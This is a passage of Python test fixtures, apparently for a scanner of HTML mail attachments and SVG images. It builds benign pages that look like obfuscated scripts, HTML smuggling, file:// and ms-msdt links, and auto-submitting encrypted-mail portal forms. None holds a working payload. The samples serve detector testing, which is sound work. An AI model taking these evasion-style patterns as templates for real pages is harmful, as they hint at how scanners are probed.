        "query": f"<html><a href='https://www.example.com/get?download=setup.exe&x=1'>get</a><img src='data:image/png;base64,{picture}'></html>",
        "file-links": (
            '<html><a href="file:///C:/plans/2026.docx">a</a><a href="file://fs01/plans/Wow!.docx">b</a>'
            '<a href="file://192.168.1.5/plans/2026.xlsx">c</a> file:///C:/a.exe <a href="search:x">d</a>'
            '<a href="file:///\\\\fs01\\tools\\setup.exe">e</a><a href="file:///C:/Booking.com%20Rechnung.pdf">f</a>'
            '<a href="file:///\\\\nas.example.com">g</a><a href="file:///C:/app/src/app.js:12:3">h</a></html>'
        ),
        "inserted": _page(
            "e.innerHTML=decodeURIComponent(x);s.text=t;e.innerHTML=decodeHtml(y);e.textContent=atob(z);fromCharCode(c)",
            body=f"<input value='{base64.b64encode(SECRET).decode()}'>",
        ),
        "preheader": "<html><div hidden>"
        + "&zwnj;&nbsp;" * 300
        + "</div><script>eval(String.fromCharCode(a))</script></html>",
        "jquery": _page(
            jquery + "$('.download').length;var x=" + str(numbers), head="<style>.download{color:red}</style>"
        ),
        "old-analytics": _page(
            "var h=(('https:'==document.location.protocol)?'https://ssl.':'http://www.');document.write(unescape(\"%3Cscript src='\"+h+\"example.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));"
        ),
        "ramp": _page(
            "var f=new Function('d','return d.x');var c=s.charCodeAt(0),v=[].reverse();var r=colours('"
            + "".join(
                f"{68 + n * 185 // 255:02x}{1 + n * 230 // 255:02x}{abs(84 + n - n * n // 200) % 256:02x}"
                for n in range(256)
            )
            + "')"
        ),
        "hidden-address": _page(
            "document.write('<a href=\"mailto:'+String.fromCharCode(105,110,102,111,64,101,120,97,109,112,108,101,46,111,114,103)+'\">write</a>')"
        ),
        "chart": _page(
            'var data=[{"x":'
            + str(numbers)
            + ',"y":['
            + ",".join(f"{source.random():.6f}" for _ in range(300))
            + '],"type":"scatter"}];draw(\'c\',data)',
            body="<div id=c></div>",
        ),
        "menu": _page(
            "document.getElementById('m').onclick=function(){this.hidden=!this.hidden};var t='one'+'two'+\"three\";",
            body="<div id=m>x</div>",
        ),
        "escapes": _page("var s='caf\\u00e9 \\x41\\u0042\\n';var p='C:\\\\temp\\\\new';"),
        "translations": _page(
            'var t={"download":"Herunterladen","save":"Speichern","evaluation":"Bewertung"};show(t[\'download\'])'
        ),
        "tracking": "<html><body>"
        + "".join(
            f"<a href='https://t.example.com/c?u=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D{n}&e=YW5uQGV4YW1wbGUubmV0{n}'>offer</a>"
            for n in range(50)
        )
        + "<img width=1 height=1 src='https://t.example.com/o.gif'></body></html>",
        "outlook": '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--><style>@font-face{font-family:Calibri}p.MsoNormal{margin:0cm}</style></head><body lang=DE link="#0563C1"><p class=MsoNormal>Gr&uuml;&szlig;e&nbsp;&#8211; Ann<o:p></o:p></p></body></html>',
        "outlook-cells": '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><p class=MsoNormal>@acme | Follow us on LinkedIn!</p>'
        "<p>- Sales | Marketing: see you at the fair!</p><table><tr><td>+Anna | Berlin! </td></tr></table><p>- ja | nein | weiss nicht! Bitte</p></body></html>",
        "code-shown": "<html><pre>&lt;script&gt;a.href=URL.createObjectURL(new Blob([atob(x)]));&lt;/script&gt; and &lt;a download&gt;</pre></html>",
        "control": "<html><body>one\x01two\0three</body></html>",
        "junk/numbers": _page(
            jquery
            + f"eval('1');var d={[n * 37 for n in range(600)]},s='{','.join(f'{n},{n % 97:03d}' for n in range(9000, 9600))}';"
            "function n(t){return +t.replace(/,/g,'').replace(/[^0-9]/g,'')}"
        ),
        "junk/identifiers": _page(
            jquery
            + "eval('1');var s='"
            + "|".join(f"SKU-{n * 7919 % 99991:05d}" for n in range(600))
            + "'.split('|').join(' ');"
        ),
        "junk/outline": _page(
            jquery + "eval('1');t.replace(/-/g,' ')",
            body='<svg><path d="' + "".join(f"M{n} {n * 3 % 97}.5L{n % 31},-{n}z" for n in range(400)) + '"/></svg>',
        ),
        "junk/greek": _page(jquery + "eval('1');var t='" + "τοέγγραφοείναιέτοιμο" * 60 + "';t.split(' ').join('')"),
        "preview": _page(
            jquery
            + "i.onchange=function(){var r=new FileReader();r.onload=function(){p.src=r.result};r.readAsDataURL(i.files[0])}",
            body="<input type=file id=i><img id=p>",
        ),
        "address/mark": _page("var M=';base64,';var n=u.indexOf(M);if(n>0){t=u.slice(n+M.length)}"),
        "address/searched": _page(
            "if(u.indexOf(';base64,')>0||u['lastIndexOf']('data:application/pdf;base64,')===0||u.includes(`;base64,`)){go(u)}"
        ),
        "address/taken-apart": _page(
            "r.onload=function(){var p=r.result.split('base64,')[1],q=r.result.split(';base64,').pop();send(p,q)}"
        ),
        "address/taken-off": _page(
            "var t=r.result.replace('data:application/pdf;base64,','').replace(/^data:.+;base64,/,'');send(t)"
        ),
        "address/emptied": _page(
            "x.src='data:application/pdf;base64,';y.src = u", body='<iframe id=x src="about:blank"></iframe>'
        ),
        "preview-and-upload": _page(
            "i.onchange=function(){var f=i.files[0],r=new FileReader();r.onload=function(){p.src=r.result};r.readAsDataURL(f);"
            "var d=new FormData();d.append('f',new Blob([f],{type:f.type}));fetch('https://www.example.com/up',{method:'POST',body:d})}",
            body="<form><input type=file id=i><img id=p></form>",
        ),
        "own-address": _page(
            f"var t=atob('data:text/csv;base64,{csv}'.split(',')[1]);document.getElementById('t').innerText=t",
            body="<pre id=t></pre>",
        ),
        "escaped-page": _page(f"document.write(unescape('{quote('<p>' + table + '</p>', safe='')}'))"),
        "handler-shown": "<html><p>Attacks with <code>search-ms:query=x</code> and 'ms-msdt:/id' links</p><a href='https://www.example.com/?q=search-ms:'>more</a></html>",
        "void": "<html><a href='javascript:void(0)' onclick='print()'>Print</a><a href=\"ms-word:ofe|u|https://x.sharepoint.com/a.docx\">Open</a></html>",
        "fields": "<html><body><!--[if supportFields]><span style='mso-element:field-begin'></span> HYPERLINK &quot;https://www.example.com/&quot;<span style='mso-element:field-separator'></span><![endif]-->DDE, explained<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></body></html>",
        "parsed": _page("function c(h){return parseInt(h.slice(1,3),16)+parseInt(h,36)}var t='" + "a1b2c3;" * 40 + "'"),
        "json-ld": '<html><script type="application/ld+json">{"@context":"http://schema.org","@type":"Order","url":"https://www.example.com/"}</script></html>',
    }


def portals() -> dict[str, str]:
    """Envelopes of services for encrypted mail: a page with the sealed message, which a form sends to the service."""
    sealed = base64.b64encode(random.Random(_SEED).randbytes(6_000)).decode()
    lines = "\n".join(sealed[at : at + 76] for at in range(0, len(sealed), 76))
    form = '<form id="f" name="f" method="post" enctype="multipart/form-data" action="https://secure.example.com/open">'
    return {
        "submitted": f"<html><body onload='document.f.submit()'>{form}<input type=hidden name=msg value='{sealed}'></form></body></html>",
        "asked": f"<html><body>{form}<textarea name=msg style='display:none'>{lines}</textarea><input type=submit value='Read the message'></form>"
        "<script>var d=new Date();document.f.action=document.f.action.replace(/&/g,'&amp;')+'?tz='+d.getTimezoneOffset();"
        "if(navigator.userAgent.indexOf('MSIE')>0){document.write('<p>'+'Please save this file first'+'</p>')}</script></body></html>",
        "in-pieces": f"<html><body>{form}"
        + "".join(
            f"<input type=hidden name=p{at} value='{sealed[at : at + 1000]}'>" for at in range(0, len(sealed), 1000)
        )
        + "<input name=email value='ann@example.net'><input type=password name=w></form>"
        "<script>function go(){var a=document.f.email.value.split('@').join(' at ').replace(/\\s/g,'');"
        "if(!a){alert('Your address, please');return false}document.f.target='_blank';window.open('https://secure.example.com/help','h')}</script></body></html>",
        "framed": f"<html><body><iframe name=t src='about:blank'></iframe>{form}<input type=hidden name=blob value='{sealed}'></form>"
        "<script>var f=document.createElement('input');f.type='hidden';f.name='lang';f.value=(navigator.language||'en').split('-')[0];"
        "document.getElementById('f').appendChild(f);document.getElementById('f').target='t';document.getElementById('f').submit()</script></body></html>",
    }


def harmless_images() -> dict[str, str]:
    """SVG as drawing programs write it."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">'
    label = '<foreignObject pointer-events="none" width="100%" height="100%" requiredFeatures="http://www.w3.org/TR/SVG11/feature#Extensibility"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; justify-content: unsafe center;"><div data-drawio-colors="color: rgb(0, 0, 0);">Order<br/>received on time</div></div></foreignObject>'
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.Random(_SEED).randbytes(900)).decode()
    return {
        "drawio": f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n{head}<g><switch>{label}<text x="9" y="9">Order</text></switch></g></svg>',
        "drawio-source": head.replace(
            "<svg",
            '<svg content="&lt;mxfile&gt;&lt;diagram&gt;&lt;object label=&quot;x&quot; id=&quot;1&quot;&gt;&lt;/object&gt;&lt;/diagram&gt;&lt;/mxfile&gt;"',
        )
        + label
        + "</svg>",
        "mermaid": head
        + '<style>#m{font-family:sans-serif;}#m .node rect{fill:#eee}@keyframes dash{to{stroke-dashoffset:0;}}</style><g><foreignObject width="80" height="24"><div xmlns="http://www.w3.org/1999/xhtml"><span class="nodeLabel"><p>Start</p></span></div></foreignObject></g></svg>',
        "gradient": head
        + '<defs><linearGradient id="a"><stop offset="0" stop-color="red"/></linearGradient><style type="text/css"><![CDATA[.a{fill:url(#a)}]]></style></defs><rect class="a" width="9" height="9"/></svg>',
        "illustrator": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]><svg xmlns="&ns_svg;"><path d="M0,0L9,9"/></svg>',
        "animation": head
        + '<circle r="4"><animate attributeName="r" begin="0s" dur="2s" repeatCount="indefinite" values="4;8"/></circle></svg>',
        "picture": head + f'<image xlink:href="data:image/png;base64,{picture}" width="9"/></svg>',
        "link": head + '<a xlink:href="https://www.example.com/"><text>our site</text></a></svg>',
        "title": head + "<title>Conversion = steps; on time = 9 of 10</title><desc>description = none</desc></svg>",
    }
